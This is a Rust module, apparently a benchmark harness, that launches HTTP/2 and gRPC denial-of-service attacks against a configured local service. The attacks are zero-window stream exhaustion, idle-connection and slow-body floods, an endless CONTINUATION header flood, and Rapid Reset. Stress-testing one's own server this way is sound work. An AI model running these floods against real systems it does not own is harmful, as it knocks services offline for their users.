//! The attacks.

use std::fmt;
use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

use super::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEAD_BYTES, HEADERS, PING, RST_STREAM, frame, headers, preface,
};
use crate::bench::wire::Target;

/// Where the attackers are.
const FROM: &str = "127.0.0.2:0";
/// Streams on one connection that are asked for and never read.
const STREAMS: u32 = 1_000;
const IDLE_CONNECTIONS: usize = 10_050;
const SLOW_BODIES: usize = 500;
const SLOW_EVERY: Duration = Duration::from_millis(100);
/// Connections that flood.
const FLOODERS: usize = 4;
const CONTINUATION_BYTES: usize = 16_000;
/// Streams that are opened and reset in one write.
const RESETS: u32 = 100;
/// Between two connections of an attacker whose last one was cut off.
const AGAIN: Duration = Duration::from_millis(1);

/// What is asked for and not read.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Asked {
    /// A run with a large input, with a key.
    Run,
    /// The same over gRPC.
    Call,
    /// The document that needs no key.
    Document,
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Attack {
    /// Streams with no window, on so many connections.
    NoWindow(Asked, usize),
    /// Connections that ask for nothing.
    Idle,
    /// Bodies that come byte by byte.
    SlowBodies,
    /// Headers that never end.
    Continuation,
    /// Streams that are reset at once.
    RapidReset,
}

impl Attack {
    /// All of them.
    pub fn all() -> Vec<Attack> {
        let on = [1, 2, 4];
        let unread = [Asked::Run, Asked::Call, Asked::Document]
            .into_iter()
            .flat_map(|asked| on.into_iter().map(move |connections| Attack::NoWindow(asked, connections)));
        unread.chain([Attack::Idle, Attack::SlowBodies, Attack::Continuation, Attack::RapidReset]).collect()
    }

    /// Attacks until it is dropped.
    pub async fn play(self, target: &Target, run: &str) -> io::Result<()> {
        let mut attackers: JoinSet<io::Result<()>> = JoinSet::new();
        let count = match self {
            Attack::NoWindow(_, connections) => connections,
            Attack::Idle => IDLE_CONNECTIONS,
            Attack::SlowBodies => SLOW_BODIES,
            Attack::Continuation | Attack::RapidReset => FLOODERS,
        };
        for _ in 0..count {
            let (target, run) = (target.clone(), run.to_owned());
            attackers.spawn(async move {
                loop {
                    // Cut off, it begins again.
                    let _ = self.once(&target, &run).await;
                    tokio::time::sleep(AGAIN).await;
                }
            });
            if self == Attack::Idle {
                tokio::task::yield_now().await;
            }
        }
        attackers.join_next().await.unwrap_or(Ok(Ok(()))).map_err(io::Error::other)?
    }

    async fn once(self, target: &Target, run: &str) -> io::Result<()> {
        let mut stream = connect(target).await?;
        match self {
            Attack::NoWindow(asked, _) => {
                stream.write_all(&preface(0)).await?;
                for number in 0..STREAMS {
                    stream.write_all(&ask(asked, target, run, 2 * number + 1)).await?;
                }
                stay(stream).await
            }
            Attack::Idle => read_to_end(stream).await,
            Attack::SlowBodies => {
                let head = format!(
                    "POST /api/v1/runs HTTP/1.1\r\nhost: x\r\nx-api-key: {}\r\ncontent-length: 1000000\r\n\r\n",
                    target.api_key
                );
                stream.write_all(head.as_bytes()).await?;
                loop {
                    stream.write_all(b" ").await?;
                    tokio::time::sleep(SLOW_EVERY).await;
                }
            }
            Attack::Continuation => {
                stream.write_all(&preface(65_535)).await?;
                stream.write_all(&frame(HEADERS, 0, 1, &headers(&[(":method", "GET")]))).await?;
                let value = "x".repeat(CONTINUATION_BYTES);
                let more = frame(CONTINUATION, 0, 1, &headers(&[("x-more", &value)]));
                loop {
                    stream.write_all(&more).await?;
                }
            }
            Attack::RapidReset => {
                stream.write_all(&preface(65_535)).await?;
                let mut next = 1;
                let (mut reading, mut writing) = stream.into_split();
                tokio::spawn(async move { tokio::io::copy(&mut reading, &mut tokio::io::sink()).await });
                loop {
                    let mut bytes = Vec::new();
                    for _ in 0..RESETS {
                        bytes.extend(ask(Asked::Run, target, run, next));
                        bytes.extend(frame(RST_STREAM, 0, next, &8_u32.to_be_bytes()));
                        next += 2;
                    }
                    writing.write_all(&bytes).await?;
                }
            }
        }
    }
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Attack::NoWindow(Asked::Run, connections) => write!(f, "no_window_{connections}"),
            Attack::NoWindow(Asked::Call, connections) => write!(f, "no_window_grpc_{connections}"),
            Attack::NoWindow(Asked::Document, connections) => write!(f, "no_window_no_key_{connections}"),
            Attack::Idle => write!(f, "idle_{IDLE_CONNECTIONS}"),
            Attack::SlowBodies => write!(f, "slow_bodies_{SLOW_BODIES}"),
            Attack::Continuation => f.write_str("continuation"),
            Attack::RapidReset => f.write_str("rapid_reset"),
        }
    }
}

async fn connect(target: &Target) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(FROM.parse().map_err(io::Error::other)?)?;
    socket.connect(target.address.parse().map_err(io::Error::other)?).await
}

/// A request as frames.
fn ask(asked: Asked, target: &Target, run: &str, stream: u32) -> Vec<u8> {
    let common = [(":scheme", "http"), (":authority", "x")];
    match asked {
        Asked::Run | Asked::Document => {
            let path = if asked == Asked::Run { format!("/api/v1/runs/{run}") } else { "/openapi.json".into() };
            let mut pairs = vec![(":method", "GET"), (":path", path.as_str())];
            pairs.extend(common);
            if asked == Asked::Run {
                pairs.push(("x-api-key", &target.api_key));
            }
            frame(HEADERS, END_STREAM | END_HEADERS, stream, &headers(&pairs))
        }
        Asked::Call => {
            let mut pairs = vec![(":method", "POST"), (":path", "/baton.v1.WorkflowService/GetWorkflowRun")];
            pairs.extend(common);
            pairs.extend([("content-type", "application/grpc"), ("te", "trailers"), ("x-api-key", &target.api_key)]);
            let mut message = vec![0, 0, 0, 0, (run.len() + 2) as u8, 0x0a, run.len() as u8];
            message.extend(run.as_bytes());
            let mut bytes = frame(HEADERS, END_HEADERS, stream, &headers(&pairs));
            bytes.extend(frame(DATA, END_STREAM, stream, &message));
            bytes
        }
    }
}

async fn read_to_end(mut stream: TcpStream) -> io::Result<()> {
    let mut byte = [0];
    while stream.read(&mut byte).await? > 0 {}
    Ok(())
}

/// Answers the server's pings, so that it sees a client that lives, and does nothing else.
async fn stay(mut stream: TcpStream) -> io::Result<()> {
    let mut head = [0; HEAD_BYTES];
    loop {
        stream.read_exact(&mut head).await?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let mut payload = vec![0; length];
        stream.read_exact(&mut payload).await?;
        if head[3] == PING && head[4] & ACK == 0 {
            stream.write_all(&frame(PING, ACK, 0, &payload)).await?;
        }
    }
}
